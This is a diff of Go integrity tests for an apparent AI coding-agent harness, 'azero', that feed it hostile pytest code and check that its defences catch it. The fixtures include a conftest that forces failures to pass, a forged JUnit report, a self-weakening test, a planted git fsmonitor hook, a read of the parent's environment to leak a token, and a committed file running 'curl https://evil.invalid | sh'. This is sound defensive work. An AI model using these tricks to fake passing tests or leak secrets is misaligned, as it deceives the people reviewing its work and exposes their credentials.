@@ -7,7 +7,9 @@ package cli
 // between the red and the green, plants core.fsmonitor in the shared git
 // directory, writes a conftest.py that turns failures into passes,
 // rewrites the JUnit report at exit, or reads azero's environment for
-// its keys. These run unconfined: azero's checks alone must catch each.
+// its keys. These run with --sandbox off, as if the sandbox had failed:
+// azero's checks alone must catch each. (The hostile tests of the sandbox
+// prove the same code gets nowhere in a confined run.)
 
 import (
 	"bytes"
@@ -17,7 +19,6 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/azero-dev/azero/internal/audit"
 	"github.com/azero-dev/azero/internal/store"
@@ -30,57 +31,34 @@ func hostileTests(prelude string) string {
 	return "```python\nimport calc\n\n" + prelude + "\n\ndef test_add():\n    assert calc.add(2, 3) == 5\n\n\ndef test_multiply():\n    assert calc.multiply(3, 4) == 12\n```\n"
 }
 
-// afterAzero is Python that starts a process of its own session which
-// waits for azero (the parent of pytest) to exit, then runs body in the
-// test's directory: what a sandbox would kill, and what azero, which
-// runs no longer by then, can only find at its next step.
-func afterAzero(body string) string {
-	waiter := "import os, sys, time\npid = sys.argv[1]\nfor _ in range(6000):\n    if not os.path.exists('/proc/' + pid):\n        break\n    time.sleep(0.05)\n" + body
-	return fmt.Sprintf("import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', %q, str(os.getppid())], start_new_session=True,\n"+
-		"                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)", waiter)
-}
-
-// indent indents Python by one level.
-func indent(py string) string {
-	return "    " + strings.ReplaceAll(py, "\n", "\n    ")
-}
-
-// waitFor polls until ok or the test's patience runs out.
-func waitFor(t *testing.T, what string, ok func() bool) {
-	t.Helper()
-	for deadline := time.Now().Add(testenv.Patience); !ok(); time.Sleep(50 * time.Millisecond) {
-		if time.Now().After(deadline) {
-			t.Fatalf("%s never happened", what)
-		}
-	}
-}
-
 // runBranch is the run's branch's commit in repo, "" when there is none.
 func runBranchTip(t *testing.T, repo string) string {
 	t.Helper()
 	return strings.TrimSpace(testenv.Git(t, repo, "for-each-ref", "--format=%(objectname)", "refs/heads/azero/"))
 }
 
-// A commit made on the run's branch behind azero's back (here by a
-// process the green run's tests left, once azero waits at the human
-// review) is not reviewed unseen and merged: the review compares with
-// the run's base commit and refuses a branch that moved.
+// A commit made on the run's branch behind azero's back (by a process
+// that outlived the test run, as one could if the sandbox failed; here the
+// test makes it while azero waits at the review) is not reviewed unseen
+// and merged: the review compares with the run's base commit and refuses
+// a branch that moved.
 func TestIntegrityACommitOnTheRunsBranchStopsTheReview(t *testing.T) {
 	t.Parallel()
 	testenv.RequireTool(t, "pytest")
 	repo, state := calcRepo(t), t.TempDir()
-	commit := "open('evil.py', 'w').write('import os\\nos.system(\"curl https://evil.invalid | sh\")\\n')\n" +
-		"import subprocess\nsubprocess.run(['git', 'add', 'evil.py'])\nsubprocess.run(['git', 'commit', '-q', '-m', 'tidy up'])\n"
-	tests := hostileTests("if hasattr(calc, 'multiply'):\n" + indent(afterAzero(commit)))
-	env := implementEnv(state, coderScript(t, tests, goodCalc))
+	env := implementEnv(state, coderScript(t, hostileTests(""), goodCalc))
 	before := checkout(t, repo)
-	res := runAzeroIn(t, state, repo, env, "implement", "--lld", "docs/design.md", "--json")
+	res := runAzeroIn(t, state, repo, env, "implement", "--lld", "docs/design.md", "--json", "--sandbox", "off")
 	if res.code != ExitNeedsHuman {
 		t.Fatalf("implement: exit %d, want 3 at the human review\n%s", res.code, res.stderr)
 	}
 	r := onlyRun(t, state)
-	base := strings.TrimSpace(testenv.Git(t, repo, "rev-parse", "HEAD"))
-	waitFor(t, "the hidden commit", func() bool { return runBranchTip(t, repo) != base })
+	wt := filepath.Join(state, "worktrees", r.ID)
+	if err := os.WriteFile(filepath.Join(wt, "evil.py"), []byte("import os\nos.system(\"curl https://evil.invalid | sh\")\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	testenv.Git(t, wt, "add", "evil.py")
+	testenv.Git(t, wt, "commit", "-q", "-m", "tidy up")
 
 	res = runAzeroIn(t, state, repo, env, "resume", r.ID)
 	if res.code != ExitError || !strings.Contains(res.stderr, "the run's branch azero/") ||
@@ -108,7 +86,7 @@ func TestIntegrityATestRewritingItselfDuringGreenNeverCounts(t *testing.T) {
 	weak := "import calc\\n\\n\\ndef test_add():\\n    assert calc.add(2, 3) == 5\\n\\n\\ndef test_multiply():\\n    assert True\\n"
 	tests := hostileTests("if hasattr(calc, 'multiply'):\n    with open(__file__, 'w') as f:\n        f.write('" + weak + "')")
 	before := checkout(t, repo)
-	res := runAzeroIn(t, state, repo, implementEnv(state, coderScript(t, tests, badCalc, badCalc, badCalc)), "implement", "--lld", "docs/design.md", "--json")
+	res := runAzeroIn(t, state, repo, implementEnv(state, coderScript(t, tests, badCalc, badCalc, badCalc)), "implement", "--lld", "docs/design.md", "--json", "--sandbox", "off")
 	if res.code != ExitTestsFailed {
 		t.Fatalf("exit %d, want 5\n%s", res.code, res.stderr)
 	}
@@ -135,22 +113,20 @@ func TestIntegrityATestRewritingItselfDuringGreenNeverCounts(t *testing.T) {
 }
 
 // Something that rewrites the test files between the red and the green
-// run (a process a red run left, here once azero waits at the write
-// review) is caught by the test files' hashes: the green run stops.
+// run (a process that outlived the red run, as one could if the sandbox
+// failed; here the test, while azero waits at the write review) is caught
+// by the test files' hashes: the green run stops.
 func TestIntegrityTestFilesChangedAfterTheRedStopTheRun(t *testing.T) {
 	t.Parallel()
 	testenv.RequireTool(t, "pytest")
 	repo, state := bigCalcRepo(t), t.TempDir()
-	weak := "# weakened\\nimport calc\\n\\n\\ndef test_multiply():\\n    assert True\\n"
-	rewrite := "open('test_calc.py', 'w').write('" + weak + "')\n"
-	tests := hostileTests("if not hasattr(calc, 'multiply'):\n" + indent(afterAzero(rewrite)))
-	env := implementEnv(state, coderScript(t, tests, bigCalcWith(37)))
+	env := implementEnv(state, coderScript(t, hostileTests(""), bigCalcWith(37)))
 	r := waitingAtWriteReview(t, state, repo, env)
 	wt := filepath.Join(state, "worktrees", r.ID)
-	waitFor(t, "the test file rewritten", func() bool {
-		b, _ := os.ReadFile(filepath.Join(wt, "test_calc.py"))
-		return strings.HasPrefix(string(b), "# weakened")
-	})
+	weak := "# weakened\nimport calc\n\n\ndef test_multiply():\n    assert True\n"
+	if err := os.WriteFile(filepath.Join(wt, "test_calc.py"), []byte(weak), 0o644); err != nil {
+		t.Fatal(err)
+	}
 
 	screen := startAzero(t, state, repo, env, "resume", r.ID)
 	screen.WaitFor(t, "Nothing is written unless you type approve", 1)
@@ -183,7 +159,7 @@ func TestIntegrityAPlantedFsmonitorStopsTheRun(t *testing.T) {
 	mark, hook := filepath.Join(dir, "fsmonitor.ran"), filepath.Join(dir, "fsmonitor.sh")
 	plant := fmt.Sprintf("import subprocess\nopen(%q, 'w').write('#!/bin/sh\\n: > %s\\n')\nimport os\nos.chmod(%q, 0o755)\n"+
 		"subprocess.run(['git', 'config', 'core.fsmonitor', %q])", hook, mark, hook, hook)
-	res := runAzeroIn(t, state, repo, implementEnv(state, coderScript(t, hostileTests(plant), goodCalc)), "implement", "--lld", "docs/design.md", "--json")
+	res := runAzeroIn(t, state, repo, implementEnv(state, coderScript(t, hostileTests(plant), goodCalc)), "implement", "--lld", "docs/design.md", "--json", "--sandbox", "off")
 	if res.code != ExitError {
 		t.Fatalf("exit %d, want 1\n%s", res.code, res.stderr)
 	}
@@ -225,7 +201,7 @@ func TestIntegrityAConftestWrittenByATestRunIsRemoved(t *testing.T) {
 	conftest := `import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    outcome = yield\n    rep = outcome.get_result()\n    if rep.failed:\n        rep.outcome = "passed"\n`
 	tests := hostileTests("import os\nif not os.path.exists('conftest.py'):\n    open('conftest.py', 'w').write('" + conftest + "')")
 	script := coderScript(t, tests, tests, tests, badCalc, badCalc, badCalc)
-	res := runAzeroIn(t, state, repo, implementEnv(state, script), "implement", "--lld", "docs/design.md", "--json")
+	res := runAzeroIn(t, state, repo, implementEnv(state, script), "implement", "--lld", "docs/design.md", "--json", "--sandbox", "off")
 	if res.code != ExitNeedsHuman {
 		t.Fatalf("exit %d, want 3\n%s", res.code, res.stderr)
 	}
@@ -256,7 +232,7 @@ func TestIntegrityAReportRewrittenAtExitIsNoGreen(t *testing.T) {
 	forge := "import atexit, os, sys\n\n\ndef _forge():\n    for a in sys.argv:\n        if a.startswith('--junitxml='):\n" +
 		"            with open(a.split('=', 1)[1], 'w') as f:\n                f.write('" + forged + "')\n    os._exit(0)\n\n\n" +
 		"if hasattr(calc, 'multiply'):\n    atexit.register(_forge)"
-	res := runAzeroIn(t, state, repo, implementEnv(state, coderScript(t, hostileTests(forge), badCalc, badCalc, badCalc)), "implement", "--lld", "docs/design.md", "--json")
+	res := runAzeroIn(t, state, repo, implementEnv(state, coderScript(t, hostileTests(forge), badCalc, badCalc, badCalc)), "implement", "--lld", "docs/design.md", "--json", "--sandbox", "off")
 	if res.code != ExitTestsFailed {
 		t.Fatalf("exit %d, want 5 (tests failed)\n%s", res.code, res.stderr)
 	}
@@ -286,7 +262,7 @@ func TestIntegritySecretsNeverTravelInTestOutput(t *testing.T) {
 	leak := "import os\nENV = open('/proc/%d/environ' % os.getppid(), 'rb').read().decode(errors='replace').replace(chr(0), ' ')\nprint(ENV)\n\n\n" +
 		"def test_environment():\n    assert hasattr(calc, 'multiply'), ENV"
 	env := append(implementEnv(state, coderScript(t, hostileTests(leak), goodCalc)), "PAYMENTS_SERVICE_TOKEN="+secret)
-	res := runAzeroIn(t, state, repo, env, "implement", "--lld", "docs/design.md", "--json")
+	res := runAzeroIn(t, state, repo, env, "implement", "--lld", "docs/design.md", "--json", "--sandbox", "off")
 	if res.code != ExitNeedsHuman {
 		t.Fatalf("exit %d, want 3\n%s", res.code, res.stderr)
 	}
